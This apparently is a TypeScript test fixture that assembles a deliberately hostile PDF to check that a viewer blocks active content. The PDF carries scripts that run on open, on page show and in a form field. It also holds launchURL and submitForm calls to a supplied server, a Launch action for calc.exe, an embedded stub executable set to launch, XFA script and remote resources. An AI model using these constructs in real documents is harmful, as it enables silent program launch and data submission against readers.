import { plainFile, streamOf } from '../../../electron/core/providers/kit/demo-pdf/plain-file.ts'

/**
 * A PDF that tries all that a PDF can try: scripts when it opens, when its page shows and in a field; programs to
 * start; forms to send; pictures, fonts and documents of another server; a file inside; a link over the whole page.
 */
export function hostilePdf(server: string): Buffer {
  const script = `app.alert('x'); app.launchURL('${server}/script', true); this.submitForm('${server}/submit'); this.exportDataObject({ cName: 'inside', nLaunch: 2 }); while (false) {}`
  const js = `<< /S /JavaScript /JS (${script.replace(/[\\()]/g, '\\$&')}) >>`
  const uri = (path: string): string => `<< /S /URI /URI (${server}/${path}) >>`
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.launchURL("${server}/xfa")</script></event></subform></template></xdp:xdp>`
  const annotation = (body: string): string =>
    `<< /Type /Annot /Rect [0 0 595 842] /Border [0 0 0] ${body} >>`
  return plainFile([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /DP 6 0 R /WP 6 0 R >>
       /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(inside) 10 0 R] >> >>
       /AcroForm << /Fields [9 0 R] /XFA 12 0 R /NeedAppearances true >> /URI << /Base (${server}/base/) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
       /AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R 14 0 R 15 0 R 16 0 R]
       /Resources << /Font << /F1 5 0 R >> /XObject << /Out 13 0 R >> >> >>`,
    streamOf(
      Buffer.from(
        'BT /F1 14 Tf 56 760 Td (Pay at once, says the hostile page) Tj ET q 200 0 0 200 56 500 cm /Out Do Q',
      ),
    ),
    `<< /Type /Font /Subtype /TrueType /BaseFont /Far /FirstChar 32 /LastChar 32 /Widths [500]
       /FontDescriptor << /Type /FontDescriptor /FontName /Far /Flags 32 /FontFile2 17 0 R >> >>`,
    js,
    annotation(`/Subtype /Link /A ${uri('link')} /AA << /E 6 0 R /U 6 0 R >>`),
    annotation(`/Subtype /Link /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>`),
    annotation(
      `/Subtype /Widget /FT /Tx /T (field) /V (text) /AA << /K 6 0 R /F 6 0 R /C 6 0 R /Fo 6 0 R >>`,
    ),
    '<< /Type /Filespec /F (inside.exe) /EF << /F 11 0 R >> >>',
    streamOf(Buffer.from('MZ a program'), '/Type /EmbeddedFile'),
    streamOf(Buffer.from(xfa)),
    streamOf(
      Buffer.alloc(0),
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${server}/picture) >>`,
    ),
    annotation(
      `/Subtype /Link /A << /S /GoToR /F << /FS /URL /F (${server}/other.pdf) >> /D [0 /Fit] >>`,
    ),
    annotation(`/Subtype /Link /A << /S /SubmitForm /F << /FS /URL /F (${server}/form) >> >>`),
    annotation(
      `/Subtype /Screen /A << /S /Rendition /JS 18 0 R /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${server}/film) >> >> >> >>`,
    ),
    streamOf(Buffer.alloc(0), `/F << /FS /URL /F (${server}/font) >>`),
    streamOf(Buffer.from(script)),
  ])
}
